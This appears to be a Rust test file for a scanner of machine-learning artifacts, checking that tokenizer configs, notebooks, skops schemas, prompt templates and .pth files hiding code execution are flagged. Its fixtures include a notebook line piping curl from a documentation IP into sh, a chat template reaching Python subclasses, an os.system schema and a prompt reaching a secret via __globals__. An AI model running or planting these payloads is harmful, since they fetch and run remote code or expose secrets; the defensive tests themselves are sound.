//! What a loader's own parser takes beyond the standard of its format is judged as in the plain spelling: a file that
//! the scanner took for a mere text where the loader sees a model would hide anything.

#![expect(clippy::unwrap_used, reason = "the helpers of these tests fail the test by panicking")]

use proofhouse_scan::{Limits, Outcome, scan_bytes};

fn outcome(name: &str, bytes: &[u8]) -> Outcome {
    scan_bytes(&name.parse().unwrap(), bytes, &Limits::default()).outcome
}

const TOKENIZER: &str =
    r#"{"model_max_length": 512, "chat_template": "{{ ''.__class__.__mro__[1].__subclasses__() }}"}"#;
const REMOTE: &str = r#"{"rope": 512, "auto_map": {"AutoModel": "somebody/else--modeling.Model"}}"#;
const NOTEBOOK: &str = r#"{"cells": [{"cell_type": "code", "source": ["!curl http://198.51.100.7/x | sh"], "outputs": [], "metadata": {"n": 512}}], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}"#;
const SCHEMA: &str = r#"{"__class__": "system", "__module__": "os", "__loader__": "FunctionNode", "content": {"module_path": "os", "function": "system"}, "protocol": 0, "_skops_version": "0.11.0", "n": 512}"#;

/// `json.loads` reads each of these numbers and texts (CPython, `Lib/json`).
#[test]
fn json_as_python_reads_it() {
    for (name, plain) in [
        ("tokenizer_config.json", TOKENIZER),
        ("config.json", REMOTE),
        ("a.ipynb", NOTEBOOK),
        ("schema.json", SCHEMA),
    ] {
        let found = outcome(name, plain.as_bytes());
        assert!(found >= Outcome::Suspicious, "{name}: {found}");
        for value in [
            "NaN",
            "Infinity",
            "-Infinity",
            "1e999",
            "-1E+400",
            r#""\ud800""#,
            r#""\udc00x""#,
            &"9".repeat(4000),
        ] {
            let odd = plain.replace("512", value);
            assert_eq!(outcome(name, odd.as_bytes()), found, "{odd}");
        }
    }
}

/// What Python's string formatting walks through, in a prompt that lies alone.
#[test]
fn prompts_that_walk_through_objects() {
    let text = "You are helpful. {user.__init__.__globals__[SECRET]}\n";
    for name in ["prompt.txt", "a.prompt", "a.tmpl"] {
        assert!(outcome(name, text.as_bytes()) >= Outcome::Suspicious, "{name}");
    }
    let plain = "Answer {question} as {user.name}; {type.__name__} is fine, and so is `__init__` alone.\n";
    assert_eq!(outcome("prompt.txt", plain.as_bytes()), Outcome::Clean);
}

/// Names of commands in a sentence are none that run.
#[test]
fn commands_that_are_talked_of() {
    let says = |what: &str| {
        outcome("a.jinja", format!("Do not execute `rm -rf` or `{what}` commands.\n").as_bytes())
    };
    assert_eq!(says("curl | sh"), Outcome::Clean);
    assert!(says("curl http://198.51.100.7/x | sh") >= Outcome::Suspicious);
    assert!(says("curl $X | sh") >= Outcome::Suspicious);
}

/// setuptools writes this for whoever works on a package; what the module does is not here to be looked at.
#[test]
fn the_finder_of_an_editable_package_is_not_proven() {
    let line = |module: &str, call: &str| format!("import {module}; {call}\n");
    let own = "__editable___nova_1_0_finder";
    assert_eq!(outcome("a.pth", line(own, &format!("{own}.install()")).as_bytes()), Outcome::Unscannable);
    for (module, call) in
        [("evil", "evil.install()"), (own, "evil.install()"), (own, &format!("{own}.install(); x()"))]
    {
        assert!(outcome("a.pth", line(module, call).as_bytes()) >= Outcome::Suspicious, "{call}");
    }
}

/// Nobody reads these as JSON, and by their names somebody would.
#[test]
fn json_that_breaks_off_is_not_clean() {
    for (name, text) in [("a.ipynb", NOTEBOOK), ("tokenizer_config.json", TOKENIZER)] {
        assert_ne!(outcome(name, &text.as_bytes()[..text.len() - 1]), Outcome::Clean, "{name}");
    }
}
